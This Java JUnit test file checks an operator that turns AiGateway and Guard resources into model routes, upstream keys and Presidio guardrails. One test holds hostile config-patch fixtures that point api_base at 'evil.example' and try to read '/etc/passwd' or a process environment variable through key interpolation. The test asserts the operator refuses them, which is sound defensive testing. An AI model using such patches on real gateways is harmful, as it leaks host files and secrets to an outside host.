package io.aiplat.operator.agenticlayer;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertNotNull;

import io.aiplat.model.Problem;
import io.aiplat.model.Secret;
import io.aiplat.operator.desired.GatewayRoutes;
import io.aiplat.operator.realization.MadeUpRealizers;
import io.aiplat.operator.realization.Realizers;
import io.aiplat.operator.reconciler.MadeUpCluster;
import io.aiplat.operator.reconciler.Translation;
import io.aiplat.routing.Guard;
import io.aiplat.routing.Route;
import io.aiplat.routing.Tier;
import io.aiplat.routing.Upstream;
import io.aiplat.routing.UpstreamKind;
import io.aiplat.routing.source.Fragment;
import io.fabric8.kubernetes.client.utils.Serialization;
import java.net.URI;
import java.time.InstantSource;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;

class AgenticLayerTest {
    private static final Realizers NOTHING = MadeUpRealizers.noCluster();
    private static final String GATEWAY = """
            apiVersion: runtime.agentic-layer.ai/v1alpha1
            kind: AiGateway
            metadata: {name: ai, namespace: team%s}
            spec:
              aiGatewayClassName: litellm
              port: 80
              aiModels: [{name: gpt-4o, provider: openai}, {name: llama3.2, provider: ollama}]
              guardrails: [{name: pii}]
            """;

    private final MadeUpCluster cluster =
            new MadeUpCluster().secret("team", "api-key-secrets", Map.of("OPENAI_API_KEY", "sk-of-the-secret"));

    private Translation gateway(String metadata) {
        AiGateway resource = Serialization.unmarshal(GATEWAY.formatted(metadata), AiGateway.class);
        return new AiGatewayReconciler(NOTHING, InstantSource.system()).translate(resource, cluster);
    }

    private static Fragment fragment(Translation translation) {
        Translation.Wanted wanted = assertInstanceOf(Translation.Wanted.class, translation, translation::toString);
        return assertInstanceOf(GatewayRoutes.class, wanted.states().getFirst()).fragment();
    }

    private static String refusal(Translation translation) {
        return assertInstanceOf(Translation.Refused.class, translation, translation::toString)
                .problem()
                .code()
                .id();
    }

    private static Route route(Fragment fragment, String name) {
        return fragment.routes().stream()
                .filter(each -> each.name().equals(name))
                .findFirst()
                .orElseThrow();
    }

    @Test
    void modelsOfAGatewayAreServedByTheirProvidersWithItsKeysAndGuards() {
        Fragment fragment = fragment(gateway(""));
        Route far = route(fragment, "gpt-4o");
        assertEquals(List.of("team/pii"), far.guards());
        Upstream openai = fragment.upstreams().get(far.deployments().getFirst().upstream());
        assertNotNull(openai);
        assertEquals(URI.create("https://api.openai.com/v1"), openai.url());
        assertEquals(new Secret("sk-of-the-secret"), openai.key());

        Route near = route(fragment, "llama3.2");
        assertEquals(List.of("team/pii"), near.guards());
        assertEquals(
                UpstreamKind.EMBEDDED,
                fragment.upstreams()
                        .get(near.deployments().getFirst().upstream())
                        .provider());
        assertEquals(Map.of("openai/gpt-4o", "gpt-4o", "ollama/llama3.2", "llama3.2"), fragment.aliases());
    }

    @Test
    void aPatchSaysWhatTheFieldsCannot() {
        String patched = ", annotations: {ai-gateway-litellm.agentic-layer.ai/config-patch: mine}";
        assertEquals("OPERATOR_NOTHING_REFERRED_TO", refusal(gateway(patched)));
        cluster.configMap("team", "mine", Map.of("patch.yaml", """
                model_list:
                  - model_name: gpt-4o
                    litellm_params:
                      model: openai/gpt-4o
                      api_base: http://vllm.models.svc:8000/v1
                      api_key: os.environ/OPENAI_API_KEY
                """));
        Fragment fragment = fragment(gateway(patched));
        assertEquals(
                URI.create("http://vllm.models.svc:8000/v1"),
                fragment.upstreams()
                        .get(route(fragment, "gpt-4o").deployments().getFirst().upstream())
                        .url());
    }

    /// Whoever may write a resource reads no file of the machine by it.
    @Test
    void nothingOfTheGatewaysProcessGetsIntoAResource() {
        String patched = ", annotations: {ai-gateway-litellm.agentic-layer.ai/config-patch: mine}";
        cluster.configMap("team", "mine", Map.of("patch.yaml", """
                model_list:
                  - model_name: leak
                    litellm_params:
                      model: openai/x
                      api_base: http://evil.example/v1
                      api_key: "${file:/etc/passwd}"
                """));
        assertEquals("OPERATOR_INTERPOLATION", refusal(gateway(patched)));
        // A variable of the process is no entry of the secret.
        cluster.configMap("team", "mine", Map.of("patch.yaml", """
                model_list:
                  - model_name: leak
                    litellm_params: {model: openai/x, api_base: "http://evil.example/v1", api_key: os.environ/PATH}
                """));
        Translation.Wanted wanted = assertInstanceOf(Translation.Wanted.class, gateway(patched));
        assertEquals(List.of("llama3.2"), names(fragment(wanted)));
        assertEquals("OPERATOR_KEY_MISSING", code(wanted.lacking()));
    }

    private static List<String> names(Fragment fragment) {
        return fragment.routes().stream().map(Route::name).sorted().toList();
    }

    private static String code(@Nullable Problem problem) {
        assertNotNull(problem);
        return problem.code().id();
    }

    @Test
    void aModelWithoutAKeyDoesNotKeepTheOthersFromBeingServed() {
        String patched = ", annotations: {ai-gateway-litellm.agentic-layer.ai/config-patch: mine}";
        cluster.configMap("team", "mine", Map.of("patch.yaml", """
                model_list:
                  - model_name: gpt-4o
                    litellm_params: {model: openai/gpt-4o}
                  - model_name: claude
                    litellm_params: {model: anthropic/claude-sonnet-4-5}
                """));
        Translation.Wanted wanted = assertInstanceOf(Translation.Wanted.class, gateway(patched));
        assertEquals(List.of("gpt-4o", "llama3.2"), names(fragment(wanted)));
        assertEquals("OPERATOR_KEY_MISSING", code(wanted.lacking()));
    }

    @Test
    void aGuardAsksThePresidioOfItsProvider() {
        String guard = """
                apiVersion: runtime.agentic-layer.ai/v1alpha1
                kind: Guard
                metadata: {name: pii, namespace: team}
                spec: {mode: [pre_call, post_call], providerRef: {name: presidio}%s}
                """;
        assertEquals("OPERATOR_NOTHING_REFERRED_TO", refusal(guard(guard.formatted(""))));
        cluster.with(Serialization.unmarshal("""
                apiVersion: runtime.agentic-layer.ai/v1alpha1
                kind: GuardrailProvider
                metadata: {name: presidio, namespace: team}
                spec: {type: presidio-api, presidio: {baseUrl: "http://presidio.team:5002"}}
                """, GuardrailProvider.class));
        assertEquals(
                new Guard.Presidio(
                        "team/pii",
                        URI.create("http://presidio.team:5002"),
                        Set.of(Guard.Moment.BEFORE, Guard.Moment.AFTER),
                        Tier.CLOUD),
                fragment(guard(guard.formatted(""))).guards().get("team/pii"));
        assertEquals(
                "OPERATOR_GUARD_WISH", refusal(guard(guard.formatted(", presidio: {entityActions: {PERSON: BLOCK}}"))));
    }

    private Translation guard(String yaml) {
        return new GuardResourceReconciler(NOTHING, InstantSource.system())
                .translate(Serialization.unmarshal(yaml, GuardResource.class), cluster);
    }
}
